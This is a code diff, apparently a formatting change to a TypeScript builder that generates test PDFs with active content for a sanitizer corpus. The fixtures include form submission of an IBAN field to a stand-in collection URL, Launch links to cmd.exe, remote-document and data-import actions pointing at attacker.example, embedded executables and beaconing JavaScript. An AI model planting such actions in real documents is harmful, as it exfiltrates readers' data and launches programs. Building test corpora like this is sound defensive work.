@@ -3,20 +3,7 @@ import fs from "node:fs";
 import os from "node:os";
 import path from "node:path";
 import zlib from "node:zlib";
-import {
-  PDFArray,
-  PDFDict,
-  PDFDocument,
-  PDFInvalidObject,
-  PDFName,
-  PDFRawStream,
-  PDFRef,
-  PDFStream,
-  PDFString,
-  StandardFonts,
-  type PDFObject,
-  type PDFPage,
-} from "pdf-lib";
+import { PDFArray, PDFDict, PDFDocument, PDFInvalidObject, PDFName, PDFRawStream, PDFRef, PDFStream, PDFString, StandardFonts, type PDFObject, type PDFPage } from "pdf-lib";
 import sharp from "sharp";
 
 // A corpus of PDFs with active content, built here with pdf-lib's low-level API (no binary
@@ -134,12 +121,31 @@ async function submitForm(): Promise<CorpusEntry> {
   const [page] = pages;
   const submit = doc.context.obj({ Type: "Action", S: "SubmitForm", F: { FS: "URL", F: str(COLLECT) }, Flags: 4 });
   const field = doc.context.register(
-    doc.context.obj({ Type: "Annot", Subtype: "Widget", FT: "Tx", T: str("iban"), V: str("DE02"), DA: str("/Helv 0 Tf 0 g"), Rect: [40, 300, 300, 330], P: page.ref, F: 4, A: submit, AA: { Bl: { S: "SubmitForm", F: { FS: "URL", F: str(`${COLLECT}?blur`) } } } }),
+    doc.context.obj({
+      Type: "Annot",
+      Subtype: "Widget",
+      FT: "Tx",
+      T: str("iban"),
+      V: str("DE02"),
+      DA: str("/Helv 0 Tf 0 g"),
+      Rect: [40, 300, 300, 330],
+      P: page.ref,
+      F: 4,
+      A: submit,
+      AA: { Bl: { S: "SubmitForm", F: { FS: "URL", F: str(`${COLLECT}?blur`) } } },
+    }),
   );
   page.node.addAnnot(field);
   doc.catalog.set(PDFName.of("AcroForm"), doc.context.obj({ Fields: [field] }));
   page.node.set(PDFName.of("AA"), doc.context.obj({ C: { S: "SubmitForm", F: { FS: "URL", F: str(`${COLLECT}?close`) } } }));
-  return { name: "submit-form.pdf", what: "/SubmitForm to an outside URL (field action, field /AA, page /AA)", bytes: await doc.save({ useObjectStreams: false }), text, pages: 1, traces: ["collect.example"] };
+  return {
+    name: "submit-form.pdf",
+    what: "/SubmitForm to an outside URL (field action, field /AA, page /AA)",
+    bytes: await doc.save({ useObjectStreams: false }),
+    text,
+    pages: 1,
+    traces: ["collect.example"],
+  };
 }
 
 /** An XFA form with a script (compressed: the script is not in the raw bytes). */
@@ -175,7 +181,14 @@ async function embeddedFile(): Promise<CorpusEntry> {
     doc.context.obj({ Type: "Annot", Subtype: "FileAttachment", Rect: [40, 40, 60, 60], Name: "PushPin", P: page.ref, FS: embeddedFileSpec(doc, "beleg.js", `${SECRET_FILE}-annotation`) }),
   );
   page.node.addAnnot(attachment);
-  return { name: "embedded-file.pdf", what: "embedded files (/EmbeddedFiles, /AF, /FileAttachment annotation)", bytes: await doc.save(), text, pages: 1, traces: [SECRET_FILE, "rechnung.exe", "beleg.js"] };
+  return {
+    name: "embedded-file.pdf",
+    what: "embedded files (/EmbeddedFiles, /AF, /FileAttachment annotation)",
+    bytes: await doc.save(),
+    text,
+    pages: 1,
+    traces: [SECRET_FILE, "rechnung.exe", "beleg.js"],
+  };
 }
 
 /** Link annotations that start a program, open remote documents or import data. */
@@ -187,7 +200,14 @@ async function launchAndRemote(): Promise<CorpusEntry> {
   linkAnnotation(doc, page, { S: "GoToR", F: str("\\\\attacker.example\\share\\x.pdf"), D: [0, "Fit"] }, 140);
   linkAnnotation(doc, page, { S: "GoToE", T: { R: "C", N: str("inner") }, D: [0, "Fit"] }, 180);
   linkAnnotation(doc, page, { S: "ImportData", F: { FS: "URL", F: str("https://attacker.example/data.fdf") } }, 220);
-  return { name: "launch.pdf", what: "/Launch, /GoToR, /GoToE and /ImportData actions", bytes: await doc.save({ useObjectStreams: false }), text, pages: 1, traces: ["cmd.exe", "calc.exe", "attacker.example"] };
+  return {
+    name: "launch.pdf",
+    what: "/Launch, /GoToR, /GoToE and /ImportData actions",
+    bytes: await doc.save({ useObjectStreams: false }),
+    text,
+    pages: 1,
+    traces: ["cmd.exe", "calc.exe", "attacker.example"],
+  };
 }
 
 /** An ordinary-looking link (/A /URI) next to an internal link (/GoTo) that must stay. */
@@ -217,7 +237,14 @@ async function javaScript(): Promise<CorpusEntry> {
   (doc.context.lookup(outline) as PDFDict).set(PDFName.of("First"), item);
   (doc.context.lookup(outline) as PDFDict).set(PDFName.of("Last"), item);
   doc.catalog.set(PDFName.of("Outlines"), outline);
-  return { name: "javascript.pdf", what: "JavaScript (open action, name tree, page /AA, /Next chain, outline)", bytes: await doc.save(), text, pages: 1, traces: ["script.example", "beacon.example", "app.launchURL"] };
+  return {
+    name: "javascript.pdf",
+    what: "JavaScript (open action, name tree, page /AA, /Next chain, outline)",
+    bytes: await doc.save(),
+    text,
+    pages: 1,
+    traces: ["script.example", "beacon.example", "app.launchURL"],
+  };
 }
 
 /** Rich media (Flash-era) annotation with an embedded asset, and a RichMediaExecute action. */
@@ -232,7 +259,10 @@ async function richMedia(): Promise<CorpusEntry> {
       Subtype: "RichMedia",
       Rect: [40, 100, 380, 400],
       P: page.ref,
-      RichMediaContent: { Assets: { Names: [str("player.swf"), asset] }, Configurations: [{ Type: "RichMediaConfiguration", Subtype: "Flash", Instances: [{ Type: "RichMediaInstance", Subtype: "Flash", Asset: asset }] }] },
+      RichMediaContent: {
+        Assets: { Names: [str("player.swf"), asset] },
+        Configurations: [{ Type: "RichMediaConfiguration", Subtype: "Flash", Instances: [{ Type: "RichMediaInstance", Subtype: "Flash", Asset: asset }] }],
+      },
       RichMediaSettings: { Activation: { Condition: "PO" } },
     }),
   );
